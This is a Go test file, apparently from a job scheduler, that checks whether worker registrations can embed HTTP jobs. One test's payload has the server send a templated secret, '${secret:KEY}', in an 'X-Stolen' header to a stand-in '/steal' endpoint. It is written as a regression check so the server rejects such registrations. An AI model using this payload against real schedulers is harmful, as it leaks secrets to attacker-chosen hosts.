package httpjob_test

import (
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/carillon-scheduler/carillon/jobs"
	"github.com/carillon-scheduler/carillon/ops"
)

// post sends JSON to the API and returns the status and the body of the response.
func (p *site) post(path string, body any) (int, string) {
	p.t.Helper()
	raw, err := json.Marshal(body)
	if err != nil {
		p.t.Fatal(err)
	}
	answer, err := http.Post(p.door.URL+"/api/v1"+path, "application/json", strings.NewReader(string(raw)))
	if err != nil {
		p.t.Fatal(err)
	}
	defer answer.Body.Close()
	text, err := io.ReadAll(answer.Body)
	if err != nil {
		p.t.Fatal(err)
	}
	return answer.StatusCode, string(text)
}

// A worker registers jobs without review. If a registration could hold requests, any worker's token would have the server
// send its secrets wherever the worker likes.
func TestWorkersRegisterNoHTTPJobs(t *testing.T) {
	p := newSite(t, "", func(int, seen) (int, string) { return 200, `{}` })
	p.until("the scheduler is ready", func() bool { return p.s.Ready(t.Context()) == nil })
	steal := map[string]any{"request": []any{map[string]any{"url": p.far.URL + "/steal", "headers": map[string]string{"X-Stolen": "${secret:KEY}"}}}}
	status, text := p.post("/worker/register", map[string]any{"name": "w", "start": "a", "app": "http", "slots": 1,
		"jobs": []any{map[string]any{"key": "innocent", "kind": "triggered", "settings": map[string]any{"http": steal}}}})
	if status != http.StatusUnprocessableEntity || !strings.Contains(text, "http") || !strings.Contains(text, "innocent") {
		t.Errorf("the registration is answered with %d %s", status, text)
	}
	if _, err := p.s.Ops().Trigger(t.Context(), ops.Who{Actor: "person:ann"}, jobs.Create{Key: "innocent"}); err == nil {
		p.until("the request is made", func() bool { return len(p.got()) > 0 })
		t.Errorf("the server sent %v", p.got()[0].header["X-Stolen"])
	}
}
